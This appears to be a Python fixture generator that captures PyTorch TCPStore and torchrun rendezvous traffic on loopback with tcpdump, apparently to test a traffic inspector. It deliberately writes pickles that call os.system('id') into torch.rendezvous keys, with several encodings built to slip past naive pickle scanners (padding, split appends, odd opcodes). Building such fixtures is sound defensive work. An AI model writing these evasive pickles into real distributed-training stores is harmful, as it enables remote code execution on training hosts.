"""Real PyTorch TCPStore traffic on loopback, captured with tcpdump: pcaps/clients/tcpstore_*.pcap.

Runs with a Python that has torch (tested with torch 2.13.0+cpu on Python 3.11; torch is not in
the project's venv):

    /tmp/torchvenv/bin/python pcaps/clients/make_tcpstore.py [OUTDIR]

Captures, each a master TCPStore on 127.0.0.1 (free port) and torch's own clients:

* tcpstore_libuv.pcap   - the libuv server backend (use_libuv=True, torch's default): every
  query the Python API sends: ADD "init/", SET, GET (WAIT + GET), ADD, COMPARE_SET (existing and
  missing key), CHECK, GETNUMKEYS, DELETE_KEY, MULTI_SET, MULTI_GET, APPEND, QUEUE_PUSH,
  QUEUE_LEN, QUEUE_POP (blocking and not), LIST_KEYS, BARRIER, a WAIT that times out (CANCEL_WAIT),
  a 128-byte value laid out like an NCCL 2.23+ ncclUniqueId written through PrefixStores the way
  ProcessGroupNCCL does (the id bytes are made here: no GPU), and a pickle naming os.system
  written to a torch.rendezvous key (pickled here, never unpickled by anyone);
* tcpstore_legacy.pcap  - the same against the legacy server backend (use_libuv=False), minus
  the queue queries it does not implement;
* tcpstore_rendezvous.pcap - torch.distributed.elastic's c10d rendezvous (DynamicRendezvousHandler
  over C10dRendezvousBackend, one node): the base64 pickles of the rendezvous state, as torchrun
  agents exchange them;
* tcpstore_evasions.pcap - pickles naming os.system written the ways pickle.loads (and torch's
  b64decode) still take them while a naive scanner does not: base64 with newlines, a protocol 0
  pickle with a trailing byte, PROTO 0/1 markers, a FRAME with no PROTO, a STACK_GLOBAL whose two
  strings have other opcodes between them, 32 harmless globals first, 70 KB of padding first,
  a harmless and a malicious pickle in one MULTI_SET, one split over two APPENDs (read back
  whole by a GET), and the base64 state of torch.rendezvous.job42 with a trailing newline.
  Pickled here, never unpickled by anyone.

Every client connection opens with VALIDATE and PING: the new numbering. The old numbering
(torch < 2.2) cannot be produced by this torch: inspector/lab/tcpstorecaps.py crafts it.
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import re
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import torch.distributed as dist

TIMEOUT = datetime.timedelta(seconds=10)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def capture(path: Path, scenario: Callable[[int], None], attempts: int = 3) -> None:
    """Run `scenario(port)` on a free port while tcpdump writes its loopback traffic to `path`.

    A busy machine can make this go wrong in two ways, and each makes the scenario run again on
    another port: a port found free is taken by another process before the store binds it, or
    tcpdump is stopped before it wrote every packet (the file must show each connection closed
    by both sides), or the kernel dropped packets before tcpdump read them (its exit report).
    """
    for attempt in range(attempts):
        port = free_port()
        tcpdump = subprocess.Popen(["tcpdump", "-i", "lo", "--immediate-mode", "-U", "-B", "16384", "-w", str(path),
                                    f"tcp port {port}"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        assert tcpdump.stderr is not None
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:  # tcpdump says "listening on lo" once it captures
            line = tcpdump.stderr.readline().decode(errors="replace")
            if "listening on" in line or not line:
                break
        time.sleep(0.3)
        problem = None
        try:
            scenario(port)
            problem = _wait_until_closed(path)
        except RuntimeError as error:  # torch.distributed.DistError and its kin
            problem = repr(error)
        finally:
            tcpdump.send_signal(signal.SIGINT)
            _, report = tcpdump.communicate(timeout=10)
        dropped = re.search(rb"(\d+) packets? dropped by kernel", report or b"")
        if problem is None and dropped and int(dropped.group(1)):
            problem = f"tcpdump dropped {int(dropped.group(1))} packet(s)"
        if problem is None:
            return
        if attempt == attempts - 1:
            raise RuntimeError(f"{path.name}: {problem}")
        print(f"{path.name}: {problem}; again on another port", file=sys.stderr)


def _wait_until_closed(path: Path, limit: float = 15.0) -> str | None:
    """Wait until the capture shows every connection it opened closed by both sides."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        opened, closed = _connections(path)
        if opened and opened <= closed:
            return None
        time.sleep(0.2)
    return f"capture incomplete after {limit:.0f} s"


def _connections(path: Path) -> tuple[set, set]:
    """Connections (port pairs) opened by a SYN, and those both sides closed (FIN or RST)."""
    data = path.read_bytes() if path.exists() else b""
    opened: set = set()
    fins: dict[tuple, set] = {}
    at = 24
    while at + 16 <= len(data):
        length = struct.unpack_from("<I", data, at + 8)[0]
        frame = data[at + 16:at + 16 + length]
        at += 16 + length
        if len(frame) < 14:
            continue
        ethertype = struct.unpack_from(">H", frame, 12)[0]
        if ethertype == 0x0800:
            tcp = frame[14 + (frame[14] & 0x0F) * 4:] if frame[23] == 6 else None
        elif ethertype == 0x86DD:
            tcp = frame[54:] if frame[20] == 6 else None
        else:
            tcp = None
        if tcp is None or len(tcp) < 14:
            continue
        sport, dport = struct.unpack_from(">HH", tcp)
        flags = tcp[13]
        pair = tuple(sorted((sport, dport)))
        if flags & 0x02 and not flags & 0x10:
            opened.add(pair)
        if flags & 0x04:
            fins.setdefault(pair, set()).update((sport, dport))
        elif flags & 0x01:
            fins.setdefault(pair, set()).add(sport)
    return opened, {pair for pair, ends in fins.items() if len(ends) == 2}


def nccl_unique_id(root_port: int) -> bytes:
    """128 bytes laid out as NCCL 2.23+ does: u64 magic, sa28 of the root (127.0.0.1), zeros."""
    magic = bytes.fromhex("5ee1c0dedeadbeef")
    sockaddr = struct.pack("<H", 2) + struct.pack(">H", root_port) + socket.inet_aton("127.0.0.1")
    return (magic + sockaddr.ljust(28, b"\0")).ljust(128, b"\0")


class _Evil:
    """Pickles as a call of os.system: what an attacker would write to torch.rendezvous.*."""

    def __reduce__(self):
        return (os.system, ("id",))


def store_queries(port: int, libuv: bool) -> None:
    master = dist.TCPStore("127.0.0.1", port, world_size=2, is_master=True, use_libuv=libuv,
                           wait_for_workers=False, timeout=TIMEOUT)
    client = dist.TCPStore("127.0.0.1", port, world_size=2, is_master=False, use_libuv=libuv, timeout=TIMEOUT)
    client.set("model/name", b"resnet50")
    assert client.get("model/name") == b"resnet50"
    assert client.add("counter", 5) == 5
    assert client.compare_set("model/name", b"resnet50", b"resnet101") == b"resnet101"
    assert client.compare_set("fresh", b"", b"created") == b"created"
    client.wait(["model/name"])
    assert client.check(["model/name", "absent"]) is False
    assert client.num_keys() >= 3
    assert client.delete_key("counter") is True
    client.multi_set(["shard/0", "shard/1"], [b"host-a", b"host-b"])
    assert client.multi_get(["shard/0", "shard/1"]) == [b"host-a", b"host-b"]
    client.append("shard/0", b":29500")
    if libuv:
        client.queue_push("jobs", b"job-1")
        assert client.queue_len("jobs") == 1
        assert client.queue_pop("jobs") == b"job-1"
        try:
            client.queue_pop("jobs", False)
        except dist.DistStoreError:
            pass
    keys = client.list_keys()
    assert "/fresh" in keys or "fresh" in keys, keys
    client.barrier("ready", 1)
    # ProcessGroupNCCL::broadcastUniqueNCCLID: rank 0 sets the id under PrefixStores.
    group = dist.PrefixStore("default_pg", client)
    group.set("0", nccl_unique_id(port))
    client.set("torch.rendezvous.evil", pickle.dumps(_Evil(), protocol=4))
    try:
        client.wait(["never-set"], datetime.timedelta(milliseconds=300))
    except dist.DistStoreError:
        pass
    del client, master


#: Every way a pickle naming os.system can be written so that pickle.loads (or torch's
#: b64decode then pickle.loads) still takes it: what tcpstore_evasions.pcap carries, key by key.
_PLAIN = b"cos\nsystem\n(S'id'\ntR."  # protocol 0: no marker
_HARMLESS = ["int", "str", "list", "dict", "set", "tuple", "float", "bytes", "bool", "complex", "frozenset",
             "bytearray", "range", "slice", "object", "type", "len", "abs", "min", "max", "sum", "sorted",
             "reversed", "enumerate", "zip", "map", "filter", "repr", "hash", "iter", "next", "round"]


def evasion_values() -> dict[str, bytes]:
    proto4 = pickle.dumps(_Evil(), protocol=4)
    padding = b"A" * 70_000
    return {
        "b64_newlines": base64.encodebytes(proto4),  # b64decode drops the newlines
        "proto0_trailing": _PLAIN + b"\n",  # pickle.loads ignores what follows STOP
        "proto1_marker": b"\x80\x01" + _PLAIN,
        "proto0_marker": b"\x80\x00" + _PLAIN,
        "frame_first": b"\x95" + struct.pack("<Q", len(_PLAIN)) + _PLAIN,  # FRAME with no PROTO
        # STACK_GLOBAL with an unrelated push and pop between the module and the name strings
        "split_strings": b"\x80\x04\x8c\x02os\x94)0\x8c\x06system\x94\x93\x8c\x02id\x94\x85\x94R\x94.",
        # 32 harmless globals first (the record lists 32)
        "many_globals": b"\x80\x02" + b"".join(b"cbuiltins\n" + n.encode() + b"\n0" for n in _HARMLESS) + _PLAIN,
        # 70 KB of string, popped, then the call: past the 64 KiB the inspector keeps of a value
        "padded": b"\x80\x04\x8d" + struct.pack("<Q", len(padding)) + padding + b"0" + proto4[2:],
    }


def evasions(port: int) -> None:
    master = dist.TCPStore("127.0.0.1", port, is_master=True, wait_for_workers=False, timeout=TIMEOUT)
    client = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=TIMEOUT)
    for name, value in evasion_values().items():
        client.set(f"torch.rendezvous.x.{name}", value)
    benign = pickle.dumps({"round": 1}, protocol=4)
    client.multi_set(["torch.rendezvous.x.pair_benign", "torch.rendezvous.x.pair_evil"],
                     [benign, pickle.dumps(_Evil(), protocol=4)])
    evil = pickle.dumps(_Evil(), protocol=4)
    client.append("torch.rendezvous.x.appended", evil[:10])  # each half alone is no pickle
    client.append("torch.rendezvous.x.appended", evil[10:])
    assert client.get("torch.rendezvous.x.appended") == evil  # what a victim reads back
    # the rendezvous state key itself, as torchrun agents write it (base64), with a trailing newline
    client.compare_set("torch.rendezvous.job42", "", base64.b64encode(evil).decode() + "\n")
    del client, master


def rendezvous(port: int) -> None:
    from torch.distributed.elastic.rendezvous import RendezvousParameters
    from torch.distributed.elastic.rendezvous.c10d_rendezvous_backend import C10dRendezvousBackend
    from torch.distributed.elastic.rendezvous.dynamic_rendezvous import create_handler

    master = dist.TCPStore("127.0.0.1", port, is_master=True, wait_for_workers=False, timeout=TIMEOUT)
    client = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=TIMEOUT)
    params = RendezvousParameters(backend="c10d", endpoint=f"127.0.0.1:{port}", run_id="job42", min_nodes=1,
                                  max_nodes=1, join_timeout="10", last_call_timeout="1", close_timeout="2")
    handler = create_handler(client, C10dRendezvousBackend(client, "job42"), params)
    info = handler.next_rendezvous()
    assert info.world_size == 1, info
    handler.shutdown()
    del client, master


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent
    out.mkdir(parents=True, exist_ok=True)
    capture(out / "tcpstore_libuv.pcap", lambda port: store_queries(port, libuv=True))
    capture(out / "tcpstore_legacy.pcap", lambda port: store_queries(port, libuv=False))
    capture(out / "tcpstore_rendezvous.pcap", rendezvous)
    capture(out / "tcpstore_evasions.pcap", evasions)
    import torch

    print(f"torch {torch.__version__}: wrote {', '.join(sorted(p.name for p in out.glob('tcpstore_*.pcap')))}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
